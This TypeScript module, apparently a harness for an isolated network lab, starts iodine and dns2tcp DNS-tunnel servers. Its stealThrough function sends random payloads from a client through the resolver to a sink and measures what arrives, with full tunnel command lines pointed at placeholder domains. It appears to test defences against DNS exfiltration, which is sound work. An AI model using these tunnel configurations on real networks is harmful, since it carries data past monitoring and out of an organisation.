/**
 * Real tunnels over DNS between client-a and the internet namespace: iodine (NULL, TXT, A) and dns2tcp (TXT).
 * `stealThrough` tries to carry a payload out and measures what arrives at the thief's end. It says nothing of what should arrive.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { INTERNET_ADDRESS, type Lab, RESOLVER_ADDRESS } from './namespaces.ts';
import { eventually, type Running } from './processes.ts';
import { toolPath } from './required-tools.ts';

export interface Tunnel {
  readonly name: string;
  readonly kind: 'iodine' | 'dns2tcp';
  /** The query type the tunnel is told to use. */
  readonly type: 'NULL' | 'TXT' | 'A';
}

export const TUNNELS: readonly Tunnel[] = [
  { name: 'iodine with NULL', kind: 'iodine', type: 'NULL' },
  { name: 'iodine with TXT', kind: 'iodine', type: 'TXT' },
  { name: 'iodine with A', kind: 'iodine', type: 'A' },
  { name: 'dns2tcp with TXT', kind: 'dns2tcp', type: 'TXT' },
];

/** The zone of each tunnel's server; the registrable domains are ordinary words so that they give nothing away. */
export const TUNNEL_ZONE = { iodine: 't.harbour-supply.example', dns2tcp: 't.meadow-prints.example' } as const;
const SERVER_PORT = { iodine: 5301, dns2tcp: 5302 } as const;
const SINK_PORT = 9000;
const PASSWORD = 'lab';
/** iodine probes the fragment size for half a minute unless told; 768 octets pass every resolver. */
const IODINE_FRAGMENT_OCTETS = '768';
const IODINE_SERVER = '10.99.0.1';
const DNS2TCP_CLIENT_PORT = 7000;

export interface World {
  /** Names below tunnel zones that reached the internet since the start, in order. */
  tunnelNames(): readonly string[];
  /** Payload octets that arrived at the thief's end since the start. */
  receivedOctets(): number;
  /** Whether a connection carrying exactly the octets of this SHA-256 arrived whole. */
  receivedDigest(digest: string): boolean;
}

/** Starts the stub, the sink and both tunnel servers in the internet namespace. They end with the lab. */
export async function startWorld(lab: Lab): Promise<World> {
  const script = (name: string) => join(import.meta.dirname, name);
  const zones = (['iodine', 'dns2tcp'] as const).map((kind) => `${TUNNEL_ZONE[kind]}=${INTERNET_ADDRESS}:${SERVER_PORT[kind]}`);
  const stub = lab.start('internet', [process.execPath, script('internet-stub.ts'), INTERNET_ADDRESS, ...zones]);
  const sink = lab.start('internet', [process.execPath, script('octet-sink.ts'), String(SINK_PORT)]);
  await stub.waitForOutput(/answering/, 10_000);
  await sink.waitForOutput(/sink ready/, 10_000);
  await startIodineServer(lab);
  await startDns2tcpServer(lab);
  return {
    tunnelNames: () => [...stub.stdout().matchAll(/^relay \d+ (\S+)$/gm)].map((match) => decodeURIComponent(match[1] ?? '')),
    receivedOctets: () => Number([...sink.stdout().matchAll(/^received (\d+)$/gm)].at(-1)?.[1] ?? 0),
    receivedDigest: (digest) => sink.stdout().includes(`digest ${digest}\n`),
  };
}

async function startIodineServer(lab: Lab): Promise<void> {
  const port = String(SERVER_PORT.iodine);
  // -c: a resolver asks from many ports, so the server must not insist on one.
  const argv = ['-f', '-c', '-P', PASSWORD, '-l', INTERNET_ADDRESS, '-p', port, `${IODINE_SERVER}/24`, TUNNEL_ZONE.iodine];
  const server = lab.start('internet', [toolPath('iodined'), ...argv]);
  await server.waitForOutput(/Listening to dns/, 5_000);
}

async function startDns2tcpServer(lab: Lab): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'kennel-lab-dns2tcp-'));
  const file = join(folder, 'dns2tcpd.conf');
  writeFileSync(
    file,
    `listen = ${INTERNET_ADDRESS}
port = ${SERVER_PORT.dns2tcp}
user = nobody
chroot = ${folder}
domain = ${TUNNEL_ZONE.dns2tcp}
resources = sink:127.0.0.1:${SINK_PORT}
`,
  );
  const server = lab.start('internet', [toolPath('dns2tcpd'), '-F', '-d', '1', '-f', file]);
  await server.waitForOutput(/Listening on/, 5_000);
  rmSync(folder, { recursive: true, force: true });
}

export interface TheftResult {
  /** Payload octets of this attempt that arrived. */
  readonly arrivedOctets: number;
  /** Whether the payload arrived whole and unchanged. */
  readonly complete: boolean;
  /** Whether the tunnel's own handshake came to its end. */
  readonly tunnelUp: boolean;
  readonly elapsedMs: number;
  /** What the tunnel client said. */
  readonly log: string;
}

/** Tries to carry `octets` random octets from client-a to the sink; gives up after `patienceMs`. */
export async function stealThrough(lab: Lab, world: World, tunnel: Tunnel, octets: number, patienceMs: number): Promise<TheftResult> {
  const startedMs = performance.now();
  const deadlineMs = startedMs + patienceMs;
  const before = world.receivedOctets();
  const client = tunnel.kind === 'iodine' ? startIodineClient(lab, tunnel.type) : startDns2tcpClient(lab);
  let source: Running | null = null;
  try {
    const ready = tunnel.kind === 'iodine' ? /Connection setup complete/ : /Listening on port/;
    const tunnelUp = await eventually(
      () => ready.test(client.stdout() + client.stderr()) || client.hasExited(),
      deadlineMs - performance.now(),
    ).then(() => ready.test(client.stdout() + client.stderr()));
    if (tunnelUp) {
      const [address, port] = tunnel.kind === 'iodine' ? [IODINE_SERVER, SINK_PORT] : ['127.0.0.1', DNS2TCP_CLIENT_PORT];
      const script = join(import.meta.dirname, 'octet-source.ts');
      source = lab.start('client-a', [process.execPath, script, address, String(port), String(octets)]);
      await source.waitForOutput(/^digest \w+$/m, 5_000);
    }
    const digest = /^digest (\w+)$/m.exec(source?.stdout() ?? '')?.[1];
    const complete = digest !== undefined && (await eventually(() => world.receivedDigest(digest), deadlineMs - performance.now()));
    return {
      arrivedOctets: world.receivedOctets() - before,
      complete,
      tunnelUp,
      elapsedMs: performance.now() - startedMs,
      log: client.stdout() + client.stderr(),
    };
  } finally {
    await source?.kill('SIGKILL');
    await client.kill();
  }
}

function startIodineClient(lab: Lab, type: Tunnel['type']): Running {
  // -r: no attempt at a direct path; the lab has none, and probing for it costs seconds.
  const argv = ['-f', '-r', '-m', IODINE_FRAGMENT_OCTETS, '-T', type, '-P', PASSWORD, RESOLVER_ADDRESS, TUNNEL_ZONE.iodine];
  return lab.start('client-a', [toolPath('iodine'), ...argv]);
}

function startDns2tcpClient(lab: Lab): Running {
  const argv = ['-d', '1', '-T', 'TXT', '-r', 'sink', '-z', TUNNEL_ZONE.dns2tcp, '-l', String(DNS2TCP_CLIENT_PORT), RESOLVER_ADDRESS];
  return lab.start('client-a', [toolPath('dns2tcpc'), ...argv]);
}
